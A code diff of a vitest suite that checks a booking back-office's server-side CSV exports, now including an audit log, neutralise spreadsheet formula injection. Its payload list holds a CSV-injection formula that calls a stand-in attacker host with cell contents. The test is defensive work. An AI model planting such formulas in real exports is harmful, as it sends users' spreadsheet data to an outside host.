@@ -1,18 +1,21 @@
 /**
- * CSV formula injection (issue 7, OWASP "CSV injection"): every exporter of the back-office, fed
+ * CSV formula injection (issue 7, OWASP "CSV injection"): every CSV export of the API (issue 13:
+ * the files are written by the server now), fed
  * records whose text fields start with = + - @ tab or CR, writes no cell a spreadsheet would run
  * as a formula. The records are poisoned generically (every text field, nested ones included), so
  * a column added to an exporter later is covered too.
  */
+import { CSV_SEPARATOR, escapeCsvCell, toCsv } from '@trayecto/shared';
 import { describe, expect, it } from 'vitest';
-import { accommodationsToCsv } from '../features/accommodations/api/export-accommodations';
-import { bookingsToCsv } from '../features/bookings/api/export-bookings';
-import { personsToCsv } from '../features/persons/api/export-persons';
-import { productsToCsv } from '../features/products/api/export-products';
-import { tourOperatorsToCsv } from '../features/tour-operators/api/export-tour-operators';
-import { usersToCsv } from '../features/users/api/export-users';
-import { vehiclesToCsv } from '../features/vehicles/api/export-vehicles';
-import { CSV_SEPARATOR, escapeCsvCell } from './csv';
+import { accommodationsCsv } from '../modules/accommodations/accommodations.export';
+import { auditCsv } from '../modules/audit/audit.export';
+import { bookingsCsv } from '../modules/bookings/bookings.export';
+import { personsCsv } from '../modules/persons/persons.export';
+import { productsCsv } from '../modules/products/products.export';
+import { tourOperatorsCsv } from '../modules/tour-operators/tour-operators.export';
+import { usersCsv } from '../modules/users/users.export';
+import { vehiclesCsv } from '../modules/vehicles/vehicles.export';
+import { csvTimes, type TCsvColumns } from './csv-stream';
 
 const PAYLOADS = [
   '=HYPERLINK("http://evil.example/?x="&A1,"Ver")',
@@ -173,6 +176,21 @@ const RECORDS = {
     state: 1,
     notes: 'Notas',
   },
+  auditLog: {
+    ...common,
+    tour_operator_id: operator.id,
+    timezone: 'Europe/Madrid',
+    actor_id: operator.id,
+    actor_kind: 'staff',
+    actor_label: 'Ana <ana@example.com>',
+    entity_type: 'booking',
+    entity_id: operator.id,
+    action: 'update',
+    summary: 'Reserva TRY-7K2QF9',
+    changes: { customer_name: ['Lucía', 'Lucía Pérez'], notes: [null, 'Nota'] },
+    request_id: 'req-1',
+    ip: '10.0.0.1',
+  },
   tourOperators: {
     ...common,
     name: 'Teide',
@@ -195,14 +213,31 @@ const RECORDS = {
 
 // biome-ignore lint/suspicious/noExplicitAny: the records are cast to each exporter's own type
 type AnyRecord = any;
+/** One file of the given columns and records (what the stream writes, in one go). */
+const fileOf = <T>(columns: TCsvColumns<T>, rows: T[]) => toCsv(columns.header, rows.map(columns.row));
+const ADMIN = csvTimes('Europe/Madrid', true);
+const bookingsToCsv = (rows: AnyRecord[]) => fileOf(bookingsCsv(ADMIN), rows);
 const EXPORTERS: Record<string, (r: AnyRecord) => string> = {
-  users: (r) => usersToCsv([r], true),
-  products: (r) => productsToCsv([r], true),
+  users: (r) => fileOf(usersCsv(true, ADMIN), [r]),
+  products: (r) => fileOf(productsCsv(true), [r]),
   bookings: (r) => bookingsToCsv([r]),
-  vehicles: (r) => vehiclesToCsv([r], () => r.tour_operator_name ?? 'Operador'),
-  persons: (r) => personsToCsv([r], () => 'Operador'),
-  accommodations: (r) => accommodationsToCsv([r], () => 'Operador'),
-  tourOperators: (r) => tourOperatorsToCsv([r]),
+  vehicles: (r) =>
+    fileOf(
+      vehiclesCsv(() => r.tour_operator_name ?? 'Operador'),
+      [r],
+    ),
+  persons: (r) =>
+    fileOf(
+      personsCsv(() => 'Operador'),
+      [r],
+    ),
+  accommodations: (r) =>
+    fileOf(
+      accommodationsCsv(() => 'Operador'),
+      [r],
+    ),
+  tourOperators: (r) => fileOf(tourOperatorsCsv(ADMIN), [r]),
+  auditLog: (r) => fileOf(auditCsv(ADMIN), [r]),
 };
 
 describe('CSV exports neutralise formulas', () => {
@@ -224,7 +259,7 @@ describe('CSV exports neutralise formulas', () => {
   }
 
   it('negative amounts stay numbers (no apostrophe on numbers), text minus signs are escaped', () => {
-    const csv = bookingsToCsv([{ ...RECORDS.bookings, total_cents: -500, customer_name: '-5' } as AnyRecord]);
+    const csv = bookingsToCsv([{ ...RECORDS.bookings, total_cents: -500, customer_name: '-5' }]);
     const cells = parseCsv(csv)[1];
     expect(cells).toContain('-5');
     expect(cells).toContain("'-5");
@@ -242,7 +277,7 @@ describe('a plain phone number is not a formula (issue 12)', () => {
     ]) {
       expect(escapeCsvCell(phone), phone).toBe(phone);
     }
-    const cells = parseCsv(bookingsToCsv([{ ...RECORDS.bookings, customer_phone: '+34 600 000 000' } as AnyRecord]))[1];
+    const cells = parseCsv(bookingsToCsv([{ ...RECORDS.bookings, customer_phone: '+34 600 000 000' }]))[1];
     expect(cells).toContain('+34 600 000 000');
     expect(cells).not.toContain("'+34 600 000 000");
   });
